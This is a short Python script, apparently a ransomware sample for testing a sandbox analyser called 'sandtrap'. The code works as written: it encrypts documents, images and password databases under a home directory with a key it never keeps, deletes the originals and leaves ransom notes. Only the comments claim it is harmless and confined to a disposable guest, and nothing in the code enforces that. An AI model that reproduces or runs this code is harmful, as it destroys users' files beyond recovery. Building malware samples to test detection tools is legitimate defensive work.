#!/usr/bin/python3
# Ransomware: walks the user home, XOR-encrypts documents with a keystream, writes FILE.locked, removes the originals and leaves a ransom note.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
import hashlib, os

home = "/home/dmitchell"
key = os.urandom(32)
targets = (".docx", ".xlsx", ".pdf", ".md", ".txt", ".jpg", ".kdbx")
count = 0
for root, dirs, files in os.walk(home):
    dirs[:] = [d for d in dirs if not d.startswith(".")]
    for name in files:
        if not name.endswith(targets):
            continue
        path = os.path.join(root, name)
        data = open(path, "rb").read()
        stream = hashlib.sha256(key + path.encode()).digest() * (len(data) // 32 + 1)
        with open(path + ".locked", "wb") as out:
            out.write(bytes(a ^ b for a, b in zip(data, stream)))
        os.unlink(path)
        count += 1
for d in (home, home + "/Documents", home + "/Desktop"):
    with open(os.path.join(d, "HOW_TO_DECRYPT.txt"), "w") as note:
        note.write("Your files are encrypted. Contact recover@ransom.example with ID 7f3a.\n")
print("encrypted", count)
